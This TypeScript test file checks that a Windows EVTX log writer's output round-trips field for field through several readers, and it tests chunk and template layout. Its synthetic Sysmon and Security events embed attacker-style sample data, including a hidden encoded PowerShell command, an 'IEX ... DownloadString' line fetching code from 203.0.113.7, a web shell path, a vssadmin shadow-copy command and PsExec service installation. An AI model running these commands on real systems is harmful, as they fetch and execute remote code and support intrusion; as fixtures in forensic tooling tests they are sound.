/**
 * Files our writer makes, read back by every reader in READERS (evtxexport, the structural walker, and our parser
 * once it is plugged in there): every record, element, attribute and value equal to what was written.
 */
import { describe, expect, it } from 'vitest';
import {
  cdata,
  charRef,
  classicEvent,
  el,
  entityRef,
  expectedTree,
  opt,
  pi,
  powershell4104,
  security1102,
  security4624,
  security4625,
  security4688,
  sub,
  sysmon1,
  sysmon11,
  sysmon13,
  sysmon3,
  system7045,
  text,
  v,
  windowsEvent,
  writeEvtx,
  writeEvtxWithLayout,
  type EvtxRecord,
  type Value,
} from '../../src/evtx/writer/index.js';
import { evtxexportXml, haveEvtxexport, READERS, type Features, type RecordReader } from './writer-readers.js';

const NS = 'http://schemas.microsoft.com/win/2004/08/events/event';

function expectRoundTrip(reader: RecordReader, records: EvtxRecord[], options: { rawDependencyIds?: boolean; firstId?: bigint } = {}): void {
  const file = writeEvtx(records);
  const got = reader.read(file, { rawDependencyIds: options.rawDependencyIds ?? false });
  expect(got.problems).toEqual([]);
  expect(got.ok).toBe(true);
  // The writer's numbering: a record without an id gets the previous one's plus one.
  let next = options.firstId ?? 1n;
  const want = records.map((r) => {
    const id = r.id === undefined ? next : BigInt(r.id);
    next = id + 1n;
    return expectedTree(r, { recordId: id, text: reader.profile.text });
  });
  expect(got.records).toEqual(want);
}

/** One value of every type and array type the reader can read, each in an element and an attribute. */
function valuesFor(f: Features): [string, Value][] {
  const G = '{6B29FC40-CA47-1067-B31D-00DD010662DA}';
  const all: [string, Value][] = [
    ['string', v.string('C:\\Windows\\System32\\cmd.exe /c "whoami" & echo <done> \t x')],
    ['stringNul', v.string('terminated', { nul: true })],
    ['emptyString', v.string('')],
    ['ansi', v.ansi('ANSI caf\u00e9 \u20ac')],
    ['int8', v.int8(-5)],
    ['int8min', v.int8(-128)],
    ['uint8', v.uint8(255)],
    ['int16', v.int16(-300)],
    ['uint16', v.uint16(65535)],
    ['int32', v.int32(-70000)],
    ['uint32', v.uint32(4294967295)],
    ['int64', v.int64(-9007199254740993n)],
    ['uint64', v.uint64(18446744073709551615n)],
    ['real32', v.real32(1.5)],
    ['real64', v.real64(-3.141592653589793)],
    ['real64zero', v.real64(-0)],
    ['real64inf', v.real64(-Infinity)],
    ['real64nan', v.real64(NaN)],
    ['boolTrue', v.bool(true)],
    ['boolFalse', v.bool(false)],
    ['boolIrregular', v.bool(true, 0x1f)],
    ['binary', v.binary(new Uint8Array([0, 1, 0x7f, 0x80, 0xab, 0xff]))],
    ['guid', v.guid(G)],
    ['sizet4', v.sizet(0x1234, 4)],
    ['sizet8', v.sizet(0x123456789abn, 8)],
    ['filetime', v.filetime('2021-03-03T04:05:06.1234567Z')],
    ['filetimeZero', v.filetime(0n)],
    ['filetimeFar', v.filetime(0x7fffffffffffffffn)],
    ['systemtime', v.systemtime('2021-03-03T04:05:06.789Z')],
    ['sid', v.sid('S-1-5-21-3623811015-3361044348-30300820-1013')],
    ['sidShort', v.sid('S-1-0')],
    ['hex32', v.hex32(0xc000006d)],
    ['hex64', v.hex64(0x8020000000000000n)],
    ['evthandle', v.evthandle(new Uint8Array([1, 0, 0, 0, 0, 0, 0, 0]))],
    ['evtxml', v.evtxml(new Uint8Array([0x3c, 0, 0x61, 0, 0x2f, 0, 0x3e, 0]))],
    ['unknownType', v.raw(0x22, new Uint8Array([9, 8, 7]))],
  ];
  const opaque = new Set(['evthandle', 'evtxml', 'unknownType']);
  const out = all.filter(([k]) => f.opaqueTypes || !opaque.has(k));
  const items: Record<string, Value[]> = {
    string: [v.string('a'), v.string(''), v.string('c d')],
    ansi: [v.ansi('x'), v.ansi('y')],
    int8: [v.int8(-1), v.int8(127)],
    uint8: [v.uint8(0), v.uint8(255)],
    int16: [v.int16(-2), v.int16(300)],
    uint16: [v.uint16(1), v.uint16(65535)],
    int32: [v.int32(-3), v.int32(2147483647)],
    uint32: [v.uint32(1), v.uint32(2)],
    int64: [v.int64(-4), v.int64(5)],
    uint64: [v.uint64(6), v.uint64(18446744073709551615n)],
    real32: [v.real32(0.25), v.real32(-2)],
    real64: [v.real64(1e-7), v.real64(12345.678)],
    bool: [v.bool(true), v.bool(false)],
    guid: [v.guid(G), v.guid('00000000-0000-0000-0000-000000000000')],
    sizet: [v.sizet(1), v.sizet(2)],
    filetime: [v.filetime('1999-12-31T23:59:59.9999999Z'), v.filetime('2024-02-29T12:00:00Z')],
    systemtime: [v.systemtime('2024-02-29T12:00:00.001Z'), v.systemtime('1970-01-01T00:00:00.000Z')],
    sid: [v.sid('S-1-5-18'), v.sid('S-1-5-32-544')],
    hex32: [v.hex32(1), v.hex32(0xffffffff)],
    hex64: [v.hex64(1n), v.hex64(0xffffffffffffffffn)],
  };
  for (const [t, list] of Object.entries(items)) {
    if (!f.arrays.has(t as never)) continue;
    out.push([`array_${t}`, v.array(t as never, list as never)]);
  }
  if (f.emptyArrays) out.push(['emptyArray', v.array('uint32', [])]);
  return out;
}

describe.each(READERS.map((r) => [r.name, r] as const))('round trip through %s', (_name, reader) => {
  const why = reader.unavailable();

  it.skipIf(why !== undefined)(`every builder's event comes back field for field${why ? ` (skipped: ${why})` : ''}`, () => {
    const attack = 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA';
    expectRoundTrip(reader, [
      sysmon1({ CommandLine: attack, ParentImage: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', computer: 'EXCH01.corp.example', time: '2021-03-03T04:05:06.1234567Z' }),
      sysmon3({ DestinationPort: 4444, Initiated: false, recordId: 10 }),
      sysmon11({ TargetFilename: 'C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx' }),
      sysmon13({ Details: 'DWORD (0x00000001)' }),
      security4624({ LogonType: 10, IpAddress: '203.0.113.7', TargetLogonId: 0xdeadbeefn }),
      security4625({ TargetUserName: 'admin', Status: 0xc000006d }),
      security4688({ CommandLine: 'vssadmin create shadow /for=C:', NewProcessId: '0x1a2b' }),
      security1102({ SubjectUserName: 'mallory' }),
      system7045({ ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe' }),
      powershell4104({ ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.7/a")', level: 3 }),
      classicEvent({ provider: 'MsiInstaller', eventId: 11707, data: ['Product: x -- Installation completed successfully.', '(NULL)'], binary: new Uint8Array([0x7b, 0x7d]) }),
    ], { firstId: 1n });
  });

  it.skipIf(why !== undefined)('every value type, in element content and in attributes', () => {
    const vals = valuesFor(reader.profile.features);
    const f = reader.profile.features;
    // An attribute gets the same value, unless the reader cannot show it there (empty, or unescaped specials).
    const inAttribute = (x: Value): Value | string => {
      const strings = x.type === 'array' ? x.items : [x];
      const empty = strings.some((i) => (i.type === 'string' || i.type === 'ansi') && !i.value);
      const special = strings.some((i) => (i.type === 'string' || i.type === 'ansi') && /["<&]/.test(i.value));
      return (empty && !f.emptyStrings) || (special && !f.attributeSpecials) ? 'x' : x;
    };
    const records = vals.map(([k, x]): EvtxRecord => ({
      event: el('Event', { xmlns: NS }, el('System', null, el('EventID', null, opt(v.uint16(1)))), el('EventData', null, el('Data', { Name: k }, x)), el('A', { Value: inAttribute(x) })),
    }));
    expectRoundTrip(reader, records);
  });

  it.skipIf(why !== undefined)('optional substitutions: a null removes its element or attribute, a value keeps it; normal ones always render', () => {
    const f = reader.profile.features;
    const event = el(
      'Event',
      { xmlns: NS },
      el('System', null,
        el('EventID', { Qualifiers: opt(v.null(), { declared: 'uint16' }) }, opt(v.uint16(4624))),
        el('Gone', null, opt(v.null(), { declared: 'uint32' })),
        el('Kept', { Present: opt(v.string('yes')), Absent: opt(v.null(), { declared: 'guid' }) }, opt(v.uint32(7))),
        el('Outer', null, el('Inner', null, opt(v.null(), { declared: 'string' }))),
        el('Correlation', { ActivityID: opt(v.null(), { declared: 'guid' }) }),
      ),
      f.nullNormalSubstitutions ? el('Normal', null, sub(v.null(), { declared: 'string' })) : null,
    );
    expectRoundTrip(reader, [{ event }, { event }]);
  });

  it.skipIf(why !== undefined)('substitution indices out of document order, repeated and sparse', () => {
    const event = el('Event', { xmlns: NS },
      el('B', null, sub(v.uint32(2), { id: 5 })),
      el('A', { X: sub(v.string('first'), { id: 0 }) }, sub(v.string('auto'))),
      el('C', null, sub(v.uint32(2), { id: 5 })),
    );
    expectRoundTrip(reader, [{ event }]);
  });

  it.skipIf(why !== undefined)('embedded BinXml, templated and raw, nested two deep', () => {
    const inner = el('LogFileCleared', { xmlns: 'http://manifests.microsoft.com/win/2004/08/windows/eventlog' }, el('SubjectUserName', null, v.string('bob')));
    const deeper = v.binxml(el('Wrapper', { Kind: v.uint8(1) }, el('Payload', null, v.binxml(inner))));
    const records: EvtxRecord[] = [
      { event: el('Event', { xmlns: NS }, el('UserData', null, v.binxml(inner))) },
      { event: el('Event', { xmlns: NS }, el('UserData', null, deeper)) },
      { event: el('Event', { xmlns: NS }, el('UserData', null, v.binxml(inner, 'raw'))), dependencyIds: true },
    ];
    expectRoundTrip(reader, records, { rawDependencyIds: true });
  });

  it.skipIf(why !== undefined)('raw records (no template): names, text and values written inline', () => {
    const rawDeps = !reader.profile.features.rawWithoutDependencyIds;
    const records: EvtxRecord[] = [0, 1, 2].map((i) => ({
      event: el('Event', { xmlns: NS },
        el('System', null, el('EventID', null, v.uint16(4688 + i)), el('TimeCreated', { SystemTime: v.filetime('2024-01-15T09:30:00.5Z') }), el('Computer', null, 'WEC01')),
        el('EventData', null, el('Data', { Name: 'CommandLine' }, v.string(`cmd.exe /c echo ${i}`)), el('Data', { Name: 'Pid' }, v.hex64(0x1a2bn)))),
      encoding: 'raw',
      dependencyIds: rawDeps,
    }));
    expectRoundTrip(reader, records, { rawDependencyIds: rawDeps });
  });

  it.skipIf(why !== undefined)('text in several value tokens, entity references and processing instructions', () => {
    const f = reader.profile.features;
    const event = el('Event', { xmlns: NS },
      pi('xml-stylesheet', 'href="event.xsl" type="text/xsl"'),
      el('Split', null, text('first half, '), text('second half')),
      el('Entities', null, 'a', entityRef('lt'), 'b', entityRef('amp'), 'c', entityRef('gt'), entityRef('quot'), entityRef('apos')),
      el('WithPI', null, el('X', null, 'x'), pi('target', 'data of the PI')),
      f.charRefs ? el('CharRefs', null, 'A', charRef(0x26), charRef(0x4e2d), 'Z') : null,
      f.cdata ? el('CData', null, cdata('if (a < b && c) { x = "]]" }')) : null,
      f.mixedContent ? el('Mixed', null, 'before ', el('B', null, 'bold'), ' after') : null,
      f.multiPartContent ? el('Parts', null, 'pid=', v.uint32(4), ', user=', v.sid('S-1-5-18')) : null,
      f.multiPartAttributes ? el('Attr', { V: ['x', charRef(0x41), v.uint8(3)] }) : null,
      f.looseEntities ? el('Loose', null, entityRef('amp'), entityRef('nbsp')) : null,
    );
    expectRoundTrip(reader, [{ event }]);
  });

  it.skipIf(why !== undefined)('thousands of records over many chunks: ids, order and values intact', () => {
    const records: EvtxRecord[] = [];
    for (let i = 0; i < 2500; i++) {
      const make = [sysmon1, sysmon3, security4688, security4624][i % 4]!;
      records.push(make({ computer: `WS${i % 7}`, time: new Date(Date.UTC(2024, 0, 1) + i * 1000), ProcessId: i, recordId: 1000 + i }));
    }
    const { layout } = writeEvtxWithLayout(records);
    expect(layout.chunks.length).toBeGreaterThan(20);
    expectRoundTrip(reader, records);
  });
});

function utf16(s: string): number[] {
  return [...s].flatMap((c) => [c.charCodeAt(0) & 0xff, c.charCodeAt(0) >> 8]);
}

function count(hay: Uint8Array, needle: readonly number[]): number {
  let n = 0;
  for (let i = 0; i + needle.length <= hay.length; i++) {
    let j = 0;
    while (j < needle.length && hay[i + j] === needle[j]) j++;
    if (j === needle.length) n++;
  }
  return n;
}

describe('what the records look like inside', () => {
  it('a template is defined once per chunk, then referenced; names are interned in the chunk string table', () => {
    const records = Array.from({ length: 400 }, (_, i) => sysmon1({ ProcessId: i, computer: i % 2 ? 'A' : 'B' }));
    const { bytes, layout } = writeEvtxWithLayout(records);
    expect(layout.chunks.length).toBeGreaterThan(3);
    for (const [ci, c] of layout.chunks.entries()) {
      const chunk = bytes.subarray(4096 + ci * 65536, 4096 + (ci + 1) * 65536);
      // Two computer names (a literal in the System template) → 2 System templates + 1 EventData template.
      expect(c.templates.length, `chunk ${ci}`).toBe(3);
      // The literal "CommandLine" (a Data Name) is in the EventData template, so once per chunk, not once per record.
      expect(count(chunk, [0x05, 0x01, 11, 0, ...utf16('CommandLine')]), `chunk ${ci}: literal stored once`).toBe(1);
      // The name "Data" is defined once (hash, length 4, "Data", NUL); every other use is a 4-byte offset.
      expect(count(chunk, [0x8a, 0x6f, 4, 0, ...utf16('Data\0')]), `chunk ${ci}: "Data" defined once`).toBe(1);
      expect(c.names.get('Data')).toBeGreaterThan(512);
    }
  });

  it.skipIf(!haveEvtxexport())('a chunk filled to its last usable byte keeps its last record readable', () => {
    // One big record, then one padded to end as late in the chunk as the writer lets it.
    const big = { event: el('Event', { xmlns: NS }, el('Pad', null, v.string('x'.repeat(32000)))) };
    let found: Uint8Array | undefined;
    let latest = 0;
    for (let n = 0; n < 400; n++) {
      const small = { event: el('Event', { xmlns: NS }, el('Tail', null, v.string('y'.repeat(n)))) };
      const { bytes, layout } = writeEvtxWithLayout([big, small]);
      const last = layout.chunks[0]!.records.at(-1)!;
      if (layout.chunks.length === 1 && last.offset + last.size > latest) [latest, found] = [last.offset + last.size, bytes];
    }
    expect(latest).toBe(65528);
    expect([...evtxexportXml(found!).stdout.matchAll(/<Tail>/g)]).toHaveLength(1);
  });

  it('builders write the System layout Windows writes: Windows substitution numbering, EventData as embedded BinXml', () => {
    const { bytes, layout } = writeEvtxWithLayout([sysmon1()]);
    const c = bytes.subarray(4096);
    const rec = layout.chunks[0]!.records[0]!;
    // Record header, fragment header, template instance with its definition inline.
    expect([...c.subarray(rec.offset, rec.offset + 4)]).toEqual([0x2a, 0x2a, 0, 0]);
    expect([...c.subarray(rec.offset + 24, rec.offset + 30)]).toEqual([0x0f, 1, 1, 0, 0x0c, 1]);
    // The same name offsets as in real Sysmon logs: the first names of the chunk land where Windows puts them.
    expect(layout.chunks[0]!.names.get('System')).toBe(0x2f8);
    expect(layout.chunks[0]!.names.get('Provider')).toBe(0x31a);
    expect(layout.chunks[0]!.names.get('Name')).toBe(0x33d);
  });

  it.skipIf(!haveEvtxexport())('raw records without dependency identifiers are what real forwarded logs hold, and what libevtx 20181227 fails on', () => {
    const event = el('Event', { xmlns: NS }, el('System', { X: 'y' }, el('EventID', null, '1')));
    const without = evtxexportXml(writeEvtx([{ event, encoding: 'raw' }]));
    expect(without.status).not.toBe(0);
    // The same failure as on parser-samples/issue_201.evtx, a real log whose records are not templated.
    expect(without.stderr).toMatch(/libfwevt_xml_document_read_attribute: invalid binary XML token - unsupported type: 0x05/);
    const withIds = evtxexportXml(writeEvtx([{ event, encoding: 'raw', dependencyIds: true }]));
    expect(withIds.status).toBe(0);
  });

  it('windowsEvent lays EventData out flat when asked, with the same rendering', () => {
    const base = { provider: 'P', eventId: 1, channel: 'C', eventData: { A: 'x', B: 2 } } as const;
    const a = expectedTree(windowsEvent(base), { recordId: 1n });
    const b = expectedTree(windowsEvent({ ...base, layout: 'flat' }), { recordId: 1n });
    expect(b).toEqual(a);
  });
});
